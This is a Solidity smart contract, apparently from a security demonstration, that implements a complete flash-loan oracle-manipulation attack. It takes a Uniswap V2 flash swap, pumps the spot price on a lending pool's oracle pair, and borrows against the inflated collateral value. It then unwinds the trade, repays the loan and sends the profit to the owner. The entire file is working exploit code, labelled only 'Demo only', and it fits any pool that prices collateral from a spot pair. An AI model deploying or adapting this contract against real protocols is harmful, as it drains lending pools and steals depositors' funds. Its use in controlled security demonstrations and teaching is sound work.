// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IDemoERC20 {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

interface IDemoV2Pair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

interface IDemoPool {
    function depositCollateral(uint256 amount) external;
    function borrow(uint256 amount) external;
}

/// @title DemoAttacker
/// @notice The `breakglass demo` attacker: each `attack` flash-swaps `flash` of the pool's
///         asset from a Uniswap V2 pair (`lender`), buys collateral on the pool's oracle pair
///         (pumping its spot price), posts `stake` of its owner's collateral, borrows
///         `amount` at the inflated price, sells the bought collateral back, repays the flash
///         swap and sends the profit to its owner. Demo only.
contract DemoAttacker {
    address private immutable owner;
    IDemoPool private immutable pool;
    IDemoV2Pair private immutable market;
    IDemoV2Pair private immutable lender;
    IDemoERC20 private immutable asset;
    IDemoERC20 private immutable collateral;

    constructor(IDemoPool pool_, IDemoV2Pair market_, IDemoV2Pair lender_, IDemoERC20 asset_, IDemoERC20 collateral_) {
        owner = msg.sender;
        pool = pool_;
        market = market_;
        lender = lender_;
        asset = asset_;
        collateral = collateral_;
    }

    function attack(uint256 flash, uint256 stake, uint256 amount) external {
        require(msg.sender == owner, "owner only");
        bool zero = lender.token0() == address(asset);
        lender.swap(zero ? flash : 0, zero ? 0 : flash, address(this), abi.encode(stake, amount));
    }

    function uniswapV2Call(address, uint256 amount0, uint256 amount1, bytes calldata data) external {
        require(msg.sender == address(lender), "lender only");
        (uint256 stake, uint256 amount) = abi.decode(data, (uint256, uint256));
        uint256 flash = amount0 + amount1;
        // Repaid in the borrowed token itself, plus the pair's 0.3% fee (its k check holds).
        uint256 owed = flash * 1000 / 997 + 1;
        uint256 bought = _swap(address(asset), flash);
        collateral.transferFrom(owner, address(this), stake);
        collateral.approve(address(pool), stake);
        pool.depositCollateral(stake);
        pool.borrow(amount);
        _swap(address(collateral), bought);
        asset.transfer(msg.sender, owed);
        asset.transfer(owner, asset.balanceOf(address(this)));
    }

    function _swap(address tokenIn, uint256 amountIn) private returns (uint256 out) {
        (uint256 r0, uint256 r1,) = market.getReserves();
        bool zeroIn = market.token0() == tokenIn;
        (uint256 reserveIn, uint256 reserveOut) = zeroIn ? (r0, r1) : (r1, r0);
        out = amountIn * 997 * reserveOut / (reserveIn * 1000 + amountIn * 997);
        IDemoERC20(tokenIn).transfer(address(market), amountIn);
        market.swap(zeroIn ? 0 : out, zeroIn ? out : 0, address(this), "");
    }
}
